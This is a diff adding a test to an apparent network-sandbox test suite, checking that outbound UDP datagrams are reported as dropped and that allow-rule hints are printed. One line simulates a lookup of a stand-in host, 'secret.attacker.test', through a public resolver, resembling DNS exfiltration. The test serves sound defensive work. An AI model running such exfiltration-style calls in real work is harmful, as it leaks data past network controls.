@@ -253,6 +253,23 @@ time.sleep(0.3)
     assert zone.destinations() == set()
 
 
+def test_a_datagram_that_the_kernel_took_is_told_as_dropped(zone):
+    done = zone.python(ASK + """
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+print(s.sendto(b"x", ("192.0.2.11", 7001)))
+s.connect(("192.0.2.10", 7001))
+s.settimeout(20)
+print(s.send(b"x"), tried(lambda: s.recv(10))[:9])
+for _ in range(2):      # asked and answered twice: between the two, what was sent before was seen
+    udp_connected("secret.attacker.test", "8.8.8.8")
+""", "--net-allow", "tcp://api.example.com:443", "--report", cwd="/")
+    assert done.stdout.splitlines() == ["1", "1 errno 111"], done
+    for address in "192.0.2.10", "192.0.2.11":
+        assert f"  a program: send '{address}:7001 (udp)': dropped\n" in done.stderr, done
+        assert f"add: --net-allow udp://{address}:7001\n" in done.stderr
+    assert ("udp", "192.0.2.10", 7001) not in zone.destinations()
+
+
 def test_an_address_is_closed_when_its_time_is_over(zone):
     lines = ask(zone, """
 import time
